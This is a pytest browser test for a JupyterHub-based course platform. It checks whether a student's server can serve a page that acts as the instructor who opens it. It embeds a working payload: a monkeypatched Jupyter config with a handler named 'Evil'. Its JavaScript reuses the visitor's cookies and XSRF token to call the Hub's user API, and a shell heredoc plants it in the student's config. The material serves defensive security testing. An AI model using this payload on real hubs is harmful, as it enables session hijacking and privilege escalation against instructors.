"""A student's server shows visitors a page of the student's making, on the Hub's own origin."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest
from attacks.hub.scene import INSTRUCTOR
from class_fixtures import ClassHub, class_hub
from docker_fixtures import require_docker

from coursekit.hub.servers import servers

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = [pytest.mark.hub, pytest.mark.docker, pytest.mark.browser, pytest.mark.timeout(600)]

# The page opens one of the Hub's in a window of its own, and asks from there, with the visitor's cookies.
_CONFIG = '''
import jupyter_server.serverapp as jupyter
from tornado.web import RequestHandler

PAGE = """<button id=plot>See my plot</button><p id=loot></p><script>
plot.onclick = () => {
  const hub = window.open("/hub/home");
  const look = setInterval(async () => {
    try {
      if (!hub.jhdata || !hub.jhdata.xsrf_token) return;
    } catch (error) {
      loot.textContent = "refused " + error;
      return;
    }
    clearInterval(look);
    const answer = await hub.fetch("/hub/api/user", {headers: {"X-XSRFToken": hub.jhdata.xsrf_token}});
    loot.textContent = answer.status + " " + await answer.text();
  }, 200);
  setTimeout(() => { loot.textContent = loot.textContent || "nothing"; }, 10000);
};
</script>"""

class Evil(RequestHandler):
    def get(self):
        self.write(PAGE)

old = jupyter.ServerWebApplication.init_handlers
def init(self, services, settings):
    return [(settings["base_url"] + "plot", Evil), *old(self, services, settings)]
jupyter.ServerWebApplication.init_handlers = init
'''


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ClassHub]:
    require_docker("spark")
    with class_hub(tmp_path_factory.mktemp("hub") / "course") as running:
        prepare(running)
        yield running


def prepare(hub: ClassHub) -> None:
    """Let the attacker's server show the page: a server reads what configuration its user has written."""
    hub.start("mal", "spark")
    code, said = hub.run(
        "mal", f"mkdir -p ~/.jupyter && cat > ~/.jupyter/jupyter_server_config.py <<'END'\n{_CONFIG}\nEND"
    )
    assert code == 0, said
    hub.stop("mal")
    deadline = time.monotonic() + 60
    while servers(hub.settings):
        assert time.monotonic() < deadline
        time.sleep(0.2)
    time.sleep(2)  # until the Hub has noticed
    hub.start("mal", "spark")


def log_in(page: Page, hub: ClassHub) -> None:
    page.goto(f"{hub.running.url}/hub/login")
    page.fill("#username_input", INSTRUCTOR)
    page.fill("#password_input", hub.running.passwords.instructors)
    page.click("#login_submit")
    page.wait_for_url("**/hub/**")


@pytest.mark.xfail(
    strict=True,
    raises=AssertionError,
    reason="without `site` servers share the Hub's origin; tests/browser/test_site.py has it with one",
)
def test_a_page_of_a_students_server_cannot_act_as_the_instructor_who_opens_it(hub: ClassHub, page: Page) -> None:
    log_in(page, hub)
    page.goto(f"{hub.running.url}/user/mal/plot")
    page.click("#plot")
    page.wait_for_function("document.getElementById('loot').textContent")
    loot = page.text_content("#loot") or ""
    assert "formgrade" not in loot, loot
